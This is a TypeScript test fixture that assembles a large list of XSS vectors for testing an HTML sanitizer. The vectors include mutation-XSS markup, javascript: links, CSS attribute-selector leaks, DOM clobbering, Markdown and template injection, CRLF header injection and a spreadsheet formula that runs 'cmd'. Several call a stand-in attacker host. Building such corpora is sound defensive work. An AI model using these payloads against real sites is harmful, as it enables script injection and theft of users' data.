import { createRequire } from 'node:module';

// Plain JSON: a list of strings.
const blns = createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json') as string[];

/** The script injections of the public list, and whatever else in it is markup. */
const PUBLIC: readonly string[] = blns.filter((text) =>
  /[<>]|script:|alert|on\w+\s*=|\{\{|\$\{/i.test(text),
);

/** Whatever of it a browser asked for would be seen: nothing is there. */
export const EVIL = 'http://127.0.0.2:9';

/** A browser that read these apart from the parser of a sanitizer would run them. */
const MUTATION: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mtext><mglyph><style><math><img src onerror=alert(1)></style></mglyph></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
  `<svg><desc><noscript></noscript><img src=x onerror=alert(1)></desc></svg>`,
  `<svg><foreignObject><math><mi><script>alert(1)</script></mi></math></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `<title><img title="</title><img src=x onerror=alert(1)>">`,
  `<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
  `<template shadowrootmode="open"><img src=x onerror=alert(1)><script>alert(1)</script></template>`,
  `<p><template><img src=x onerror=alert(1)></template></p>`,
  `<table><tr><td><svg><tr><style><img src=x onerror=alert(1)>`,
  `<a><table><a><svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
  `<!-->--><img src=x onerror=alert(1)>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--!><img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>`,
  `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>`,
  `<?xml-stylesheet > <img src=x onerror=alert(1)> ?>`,
  `<image/src/onerror=alert(1)>`,
  `<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>`,
  `</p><img src=x onerror=alert(1)></br onclick=alert(1)>`,
];

/** Markup that acts without a script of its own. */
const ELEMENTS: readonly string[] = [
  `<iframe srcdoc="<script>parent.alert(1)</script><img src=x onerror=alert(1)>"></iframe>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<base href="${EVIL}/base/"><a href="relative">relative</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel="stylesheet" href="${EVIL}/style.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<link rel="import" href="data:text/html,<script>alert(1)</script>">`,
  `<form action="${EVIL}/form"><input name="password" autofocus onfocus=alert(1)><button>go</button></form>`,
  `<form action="javascript:alert(1)"><input type=submit id=x></form><label for=x>go</label>`,
  `<button formaction="javascript:alert(1)">go</button><input type="image" src="${EVIL}/i" formaction="javascript:alert(1)">`,
  `<p style="background:url(${EVIL}/css.png);width:expression(alert(1))">styled</p>`,
  `<p style="background:u\\72l('${EVIL}/escaped.png')">styled</p>`,
  `<p style='background-image:image-set("${EVIL}/set.png" 1x)'>styled</p>`,
  `<style>@import url(${EVIL}/import.css); @import "${EVIL}/bare.css";</style>`,
  `<style>*{background:url("${EVIL}/bg.png");-moz-binding:url(${EVIL}/b.xml#x)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff2)} *{font-family:x!important}</style>`,
  `<style>input[value^="a"]{background:url(${EVIL}/leak)}</style>`,
  `<img src="${EVIL}/pixel.gif" srcset="${EVIL}/2x.gif 2x" onerror=alert(1)>`,
  `<picture><source srcset="${EVIL}/picture.webp"><img src=x onerror=alert(1)></picture>`,
  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4" autoplay onerror=alert(1)></video>`,
  `<audio src=x autoplay onerror=alert(1)></audio><track src="${EVIL}/t.vtt" onerror=alert(1)>`,
  `<details open ontoggle=alert(1)><summary>more</summary></details>`,
  `<div popover id=p onbeforetoggle=alert(1)>p</div><button popovertarget=p>show</button>`,
  `<p onanimationstart=alert(1) style="animation:x 1s">a</p><style>@keyframes x{}</style>`,
  `<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<svg onload=alert(1)><animate attributeName=x onbegin=alert(1) dur=1s></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"></svg>`,
  `<svg><script href="data:,alert(1)"/></svg><svg><script>alert&lpar;1&rpar;</script></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/><image href="${EVIL}/svg.png"/></svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  `<marquee onstart=alert(1)>m</marquee><isindex action=javascript:alert(1) type=image>`,
  `<script src="${EVIL}/script.js"></script><script type="module">alert(1)</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/s"]}]}</script>`,
  `<a href="${EVIL}/link" ping="${EVIL}/ping" target=_top>a link</a>`,
  `<a href="javascript:alert(1)">one</a> <a href=" java&#10;script:alert(1)">two</a> <a href="&#1;javascript:alert(1)">three</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:alert(1)">vb</a>`,
  `<a href="javascript&colon;alert(1)">c</a> <a href="JaVaScRiPt:alert(1)">d</a> <a href="blob:null/x">e</a>`,
  `<area href="javascript:alert(1)"><map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m">`,
  // DOM clobbering: what a script of the page would read in place of its own.
  `<form id=document name=body><input name=childNodes><input name=nodeName><input name=attributes></form>`,
  `<a id=content href="${EVIL}/clobbered"></a><a id=content name=api href="javascript:alert(1)"></a><img name=getElementById>`,
  `<p id="__proto__">p</p><p id="constructor" name="location">c</p><output name="currentScript"></output>`,
];

/** Of Markdown, of templates, of headers, of names. */
const TEXT: readonly string[] = [
  `[click](javascript:alert(1)) ![pixel](${EVIL}/markdown.png)`,
  `[click](JaVaScript&colon;alert(1)) [tab](java\tscript:alert(1)) [enc](javascript%3Aalert(1))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)>`,
  `[titled](https://a.example "x\\" onmouseover=\\"alert(1)") [angle](<javascript:alert(1)>)`,
  `[ref][1] ![ref][1]\n\n[1]: javascript:alert(1) "title"`,
  `[a](https://a.example/"onmouseover="alert(1)) ![a" onerror="alert(1)](x)`,
  `\`\`\`html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n\`\`\``,
  `| a | <img src=x onerror=alert(1)> |\n| --- | --- |\n| <script>alert(1)</script> | b |`,
  `www.a.example/"onmouseover=alert(1)// mailto:a@a.example"onclick=alert(1)`,
  `\${alert(1)} \`\${alert(1)}\` {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= alert(1) %>`,
  `{{7*7}}{{$on.constructor('alert(1)')()}} [[constructor.constructor('alert(1)')()]]`,
  `%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; \\u003cscript\\u003ealert(1)`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)› \u02bcalert(1)\u02bc`,
  `\u202egpj.<script>alert(1)</script>\u202c \u2066\u2067<b>\u2069 \u200b\u200d\ufeff`,
  `../../../../etc/<img src=x onerror=alert(1)>/passwd`,
  `..\\..\\CON.<svg onload=alert(1)>.html`,
  `picture.svg"><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `a.html\u0000.png<script>alert(1)</script>`,
  `name\r\nBcc: someone@victim.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>`,
  `name\r\nSet-Cookie: a=b\r\nContent-Disposition: inline; filename="x.html"<img src=x onerror=alert(1)>`,
  `"; filename="x.html"; x="<img src=x onerror=alert(1)>`,
  `" autofocus onfocus="alert(1)" x="`,
  `' onmouseover='alert(1)' style='position:fixed;inset:0' x='`,
  `</title></textarea></style></noscript></script></xmp></iframe></template><img src=x onerror=alert(1)>`,
  `</pre></code></td></table></div></body></html><script>alert(1)</script>`,
  `]]>--></script><script>alert(1)</script>`,
  `=HYPERLINK("${EVIL}/csv?"&A1,"click") @SUM(1+1)*cmd|' /C calc'!A0`,
  `__proto__ constructor toString <script>alert(1)</script>`,
  `<${'b><'.repeat(60)}img src=x onerror=alert(1)>`,
  `${'<div>'.repeat(300)}<img src=x onerror=alert(1)>`,
];

/** Nothing ends what these begin: each stands at the end of what it is a part of. */
const OPEN: readonly string[] = [
  `<!-- <img src=x onerror=alert(1)>`,
  `<img src="x" alt="unclosed onerror=alert(1)>`,
  `<img src=x onerror=alert(1) alt=`,
  `<style>*{background:url(${EVIL}/open`,
  `<script>alert(1)`,
  `<textarea><img src=x onerror=alert(1)>`,
  `<svg><style><img src=x onerror=alert(1)>`,
  `<plaintext><img src=x onerror=alert(1)>`,
];

/** Each as it would be typed; no two are alike. */
export const XSS_VECTORS: readonly string[] = [
  ...new Set([...PUBLIC, ...MUTATION, ...ELEMENTS, ...TEXT, ...OPEN]),
];

const SAMPLED = 24;

/**
 * Every twenty-fourth one, which `npm test` has time for, and these; all of them, which takes minutes, with
 * `SLUICE_VECTORS=all npm run jest -- browser/vectors`.
 */
export function vectorsToTry(always: readonly string[]): readonly string[] {
  if (process.env['SLUICE_VECTORS'] === 'all') return XSS_VECTORS;
  return XSS_VECTORS.filter((vector, n) => n % SAMPLED === 0 || always.includes(vector));
}

/** Ends most of what a vector can leave open, so that the one after it is markup again. */
const CLOSER = `\n\n"'>--></style></script></title></textarea></noscript></xmp></iframe></template></svg></math>\n\n`;

/** Several in one text, where each of them can still do what it is meant to. */
export function batches(size: number, vectors: readonly string[] = XSS_VECTORS): readonly string[] {
  const last = vectors.filter((vector) => OPEN.includes(vector));
  const others = vectors.filter((vector) => !OPEN.includes(vector));
  const made: string[] = [];
  for (let at = 0; at < others.length; at += size) {
    made.push(others.slice(at, at + size).join(CLOSER));
  }
  return [...made, ...last];
}
